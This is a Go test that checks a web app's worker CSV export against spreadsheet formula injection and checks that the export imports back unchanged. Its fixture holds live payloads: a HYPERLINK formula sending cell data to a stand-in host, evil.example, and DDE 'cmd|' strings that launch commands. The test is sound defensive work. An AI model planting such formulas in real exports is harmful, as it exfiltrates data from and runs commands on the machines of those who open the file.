package web_test

import (
	"context"
	"encoding/csv"
	"fmt"
	"strings"
	"testing"

	"github.com/karyakram/karyakram/app/web"
	"github.com/karyakram/karyakram/schedule"
)

// TestExportsNeutraliseFormulas stores a worker whose text fields are
// spreadsheet formulas (OWASP CSV injection) and checks that the worker
// export writes no cell a spreadsheet would evaluate, while mobiles stay
// as they are, and that the export imports back unchanged.
func TestExportsNeutraliseFormulas(t *testing.T) {
	e := newEnv(t, web.Config{})
	ctx := context.Background()
	state := schedule.SystemActor("t")
	evil := schedule.Worker{Name: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Mobile: "9877700001", Social: "@SUM(1+1)*cmd|' /C calc'!A0",
		Work: "-2+3+cmd|' /C calc'!A0", Active: true, UnitID: unitID(t, e.st, "D1-A1-M1-C1-S1-B1")}
	w, err := e.st.CreateWorker(ctx, state, evil)
	if err != nil {
		t.Fatal(err)
	}
	b := e.browser()
	b.login("9800000003") // mandal president
	resp, raw := b.getRaw(fmt.Sprintf("/units/%d/export.csv", unitID(t, e.st, "D1-A1-M1")))
	if resp.StatusCode != 200 {
		t.Fatalf("export: %d", resp.StatusCode)
	}
	recs, err := csv.NewReader(strings.NewReader(string(raw))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, rec := range recs {
		for _, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isPlainNumber(cell) {
				t.Errorf("cell %q would run as a formula", cell)
			}
		}
		if rec[1] == w.Mobile {
			found = true
		}
	}
	if !found {
		t.Errorf("the worker's mobile %s is not in the export as it is:\n%s", w.Mobile, raw)
	}
	// Export, then import the same file: nothing changes.
	rep, err := e.st.ImportWorkers(ctx, state, strings.NewReader(string(raw)), nil)
	if err != nil || rep.Updated != 0 {
		t.Fatalf("re-import of the export: %+v %v", rep, err)
	}
	again, _ := e.st.FindWorkerByID(ctx, state, w.ID)
	if again.Name != evil.Name || again.Social != evil.Social || again.Work != evil.Work {
		t.Errorf("after export and import: %q %q %q", again.Name, again.Social, again.Work)
	}
}

func isPlainNumber(s string) bool {
	s = strings.TrimLeft(s, "+-")
	return s != "" && strings.Trim(s, "0123456789.") == ""
}
